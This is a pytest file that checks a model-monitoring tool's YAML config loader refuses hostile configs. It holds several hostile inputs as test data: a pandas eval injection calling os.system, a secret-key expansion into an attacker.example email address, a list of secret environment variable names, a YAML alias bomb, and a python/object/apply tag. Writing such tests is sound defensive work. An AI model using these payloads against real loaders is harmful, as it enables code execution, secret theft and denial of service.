"""Hostile configs (issue 13, findings 1, 2, 3, 11): refused at load with one line, nothing run, nothing read."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml

from monitor.config import check_columns, load_config, parse_config
from monitor.errors import ConfigError

BASE = """\
name: m
reference: {uri: "ref.parquet"}
production: {uri: "prod/dt={date}/"}
model: {task: binary_classification, target: y, prediction: p, score: s}
output: {uri: "out/"}
"""

DICT = {
    "name": "m",
    "reference": {"uri": "ref.parquet"},
    "production": {"uri": "prod/dt={date}/"},
    "model": {"task": "binary_classification", "target": "y", "prediction": "p", "score": "s"},
    "output": {"uri": "out/"},
}


def write(tmp_path: Path, text: str) -> Path:
    p = tmp_path / "m.yaml"
    p.write_text(text)
    return p


def one_line(exc: pytest.ExceptionInfo) -> str:
    msg = str(exc.value)
    assert "\n" not in msg, msg
    return msg


# --------------------------------------------------------------------------- 1: cohort `where` never runs code


def test_where_payload_refused_at_load_and_never_runs(tmp_path):
    marker = tmp_path / "pwned"
    p = write(tmp_path, BASE + f"cohorts:\n  - {{name: evil, where: \"@pd.io.common.os.system('touch {marker}') == 0\"}}\n")
    with pytest.raises(ConfigError) as info:
        load_config(p)
    msg = one_line(info)
    assert "cohorts[0].where" in msg and "position 1" in msg and "'@'" in msg and "allowed:" in msg
    assert not marker.exists()


@pytest.mark.parametrize(
    "where, says",
    [
        ("`y` > 1", "backticks"),
        ("y.__class__ == 1", "attribute access"),
        ("abs(y) > 1", "function calls"),
        ("__builtins__ == 1", "__"),
        ("y > 1 | y < 0", "and / or / not"),
    ],
)
def test_where_outside_the_grammar_refused_at_load(where, says):
    with pytest.raises(ConfigError) as info:
        parse_config({**DICT, "cohorts": [{"name": "c", "where": where}]}, "m.yaml")
    msg = one_line(info)
    assert msg.startswith("m.yaml: cohorts[0].where:") and says in msg


def test_where_columns_checked_against_the_reference():
    c = parse_config({**DICT, "cohorts": [{"name": "young", "where": "age < 25 and region in ['north']"}]}, "m.yaml")
    check_columns(c, ["age", "region", "y"])
    check_columns(c, ["age", "y"] + ["region"])
    with pytest.raises(ConfigError, match=r"m.yaml: cohorts\[0\].where: column 'region' is not in the reference data"):
        check_columns(c, ["age", "y"])
    # model columns (prediction, score, ...) need not be in the training snapshot
    c = parse_config({**DICT, "cohorts": [{"name": "confident", "where": "s > 0.9 or p == 1"}]}, "m.yaml")
    check_columns(c, ["age", "y"])


# --------------------------------------------------------------------------- 2: ${VAR} only where safe


def test_env_secret_in_email_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY")
    for field in ('to: ["${AWS_SECRET_ACCESS_KEY}@attacker.example"]', 'subject_prefix: "${AWS_SECRET_ACCESS_KEY}"',
                  'sender: "${MONITOR_FROM}@x.example"', 'subject_prefix: "${DEMO_DIR}"'):
        p = write(tmp_path, BASE + "email:\n  " + field + "\n")
        with pytest.raises(ConfigError) as info:
            load_config(p)
        msg = one_line(info)
        assert "never expanded in email fields" in msg and "wJalrXUtnFEMI" not in msg


@pytest.mark.parametrize(
    "name",
    ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AIRFLOW_CONN_SMTP_DEFAULT", "MONITOR_SMTP_PASSWORD", "DB_PASSWORD", "GITHUB_TOKEN", "MY_API_KEY"],
)
def test_env_secret_names_never_expanded_even_in_locations(tmp_path, monkeypatch, name):
    monkeypatch.setenv(name, "hunter2-secret-value")
    monkeypatch.setenv("MONITOR_ENV_ALLOW", name)  # even when listed
    p = write(tmp_path, BASE.replace("out/", "s3://${" + name + "}/out/"))
    with pytest.raises(ConfigError) as info:
        load_config(p)
    msg = one_line(info)
    assert "looks like a secret" in msg and "output.uri" in msg and "hunter2" not in msg


def test_env_only_in_storage_locations(tmp_path, monkeypatch):
    monkeypatch.setenv("MONITOR_BUCKET", "b1")
    p = write(tmp_path, BASE + "business: {currency: '${MONITOR_BUCKET}'}\n")
    with pytest.raises(ConfigError) as info:
        load_config(p)
    assert "business.currency" in one_line(info) and "only in storage locations" in str(info.value)


def test_env_names_allowed_by_default_or_listed(tmp_path, monkeypatch):
    monkeypatch.setenv("MONITOR_BUCKET", "b1")
    monkeypatch.setenv("BUCKET", "b2")
    monkeypatch.delenv("MONITOR_ENV_ALLOW", raising=False)
    text = BASE.replace("ref.parquet", "s3://${MONITOR_BUCKET}/ref.parquet").replace("out/", "${DEMO_DIR:-demo}/out/")
    text += "email: {outbox: '${MONITOR_OUTBOX:-outbox}'}\n"
    c = load_config(write(tmp_path, text))
    assert c.reference.uri == "s3://b1/ref.parquet" and c.email.outbox == "outbox"
    assert c.output.uri in (f"{os.environ.get('DEMO_DIR', 'demo')}/out/",)
    p = write(tmp_path, BASE.replace("prod/", "s3://${BUCKET}/prod/"))
    with pytest.raises(ConfigError) as info:
        load_config(p)
    assert "${BUCKET} is not an allowed variable" in one_line(info) and "MONITOR_ENV_ALLOW=BUCKET" in str(info.value)
    monkeypatch.setenv("MONITOR_ENV_ALLOW", "OTHER, BUCKET")
    assert load_config(p).production.uri == "s3://b2/prod/dt={date}/"


def test_production_uri_list_expands(tmp_path, monkeypatch):
    monkeypatch.setenv("MONITOR_BUCKET", "b1")
    p = write(tmp_path, BASE.replace('{uri: "prod/dt={date}/"}', '{uri: ["s3://${MONITOR_BUCKET}/a/dt={date}/", "s3://${MONITOR_BUCKET}/b/"]}'))
    assert load_config(p).production.uris == ["s3://b1/a/dt={date}/", "s3://b1/b/"]


# --------------------------------------------------------------------------- 3: alias bomb, size


BOMB = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8)
)


def test_alias_bomb_refused_before_expansion(tmp_path):
    p = write(tmp_path, BASE + BOMB)
    assert len(p.read_bytes()) < 1200
    # in a child process with a 1 GB address-space cap: an expanding loader would die, not refuse
    code = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        from monitor.config import load_config
        from monitor.errors import ConfigError
        try:
            load_config({str(p)!r})
        except ConfigError as exc:
            print(exc)
            sys.exit(3)
    """)
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                         env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert res.returncode == 3, res.stderr[-2000:]
    lines = res.stdout.strip().splitlines()
    assert len(lines) == 1 and "anchors (&a) are not allowed" in lines[0] and "line 6" in lines[0]


@pytest.mark.parametrize("extra", ["defaults: &d {uri: x}\n", "output: *d\n", "email: {<<: *d}\n"])
def test_anchors_and_aliases_refused(tmp_path, extra):
    p = write(tmp_path, BASE.replace('output: {uri: "out/"}\n', "") + extra)
    with pytest.raises(ConfigError) as info:
        load_config(p)
    assert "not allowed in a monitor config" in one_line(info)


def test_config_size_bounded(tmp_path):
    p = write(tmp_path, BASE + "# " + "x" * 1_100_000 + "\n")
    with pytest.raises(ConfigError) as info:
        load_config(p)
    assert "larger than 1000 KB" in one_line(info)


def test_deep_nesting_refused(tmp_path):
    p = write(tmp_path, BASE + "extra: " + "[" * 50_000 + "]" * 50_000 + "\n")
    with pytest.raises(ConfigError) as info:
        load_config(p)
    assert "nests too deeply" in one_line(info)


def test_yaml_still_safe(tmp_path):
    p = write(tmp_path, "name: !!python/object/apply:os.system ['echo pwned']\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_config(p)
    assert isinstance(yaml.safe_load("a: 1"), dict)


# --------------------------------------------------------------------------- 11: upper bounds


@pytest.mark.parametrize(
    "over, key, allowed",
    [
        ({"labels": {"uri": "l/", "delay_days": 1_000_000_000}}, "labels.delay_days", "0 to 3650"),
        ({"performance": {"bootstrap": 200_000_000}}, "performance.bootstrap", "0 to 20000"),
        ({"window_days": 100_000}, "window_days", "1 to 366"),
        ({"performance": {"min_cohort_labelled": 10**12}}, "performance.min_cohort_labelled", "1 to"),
        ({"performance": {"worst_rows": 10**7}}, "performance.worst_rows", "0 to"),
        ({"performance": {"annotate_rows": 10**9}}, "performance.annotate_rows", "0 to"),
        ({"report": {"trend_runs": 10**6}}, "report.trend_runs", "2 to"),
        ({"report": {"evidently_sample_rows": 10**10}}, "report.evidently_sample_rows", "100 to"),
        ({"quality": {"volume_history_runs": 10**6}}, "quality.volume_history_runs", "2 to"),
        ({"quality": {"constant_min_rows": 10**15}}, "quality.constant_min_rows", "2 to"),
        ({"performance": {"seed": 2**70}}, "performance.seed", "0 to"),
    ],
)
def test_numeric_settings_have_upper_bounds(over, key, allowed):
    with pytest.raises(ConfigError) as info:
        parse_config({**DICT, **over}, "m.yaml")
    msg = one_line(info)
    assert msg.startswith(f"m.yaml: {key}:") and allowed in msg


def test_every_numeric_setting_is_bounded():
    """Walk the config tree: every int/float field has an upper bound (or is a share/probability)."""
    from pydantic import BaseModel

    from monitor import config as C

    unbounded = []
    for name in dir(C):
        model = getattr(C, name)
        if not (isinstance(model, type) and issubclass(model, BaseModel)):
            continue
        for fname, field in model.model_fields.items():
            ann = str(field.annotation)
            if not any(t in ann for t in ("int", "float")) or "str" in ann or "dict" in ann or "list" in ann:
                continue
            if not any(hasattr(m, "le") or hasattr(m, "lt") for m in field.metadata):
                unbounded.append(f"{model.__name__}.{fname}")
    assert unbounded == []
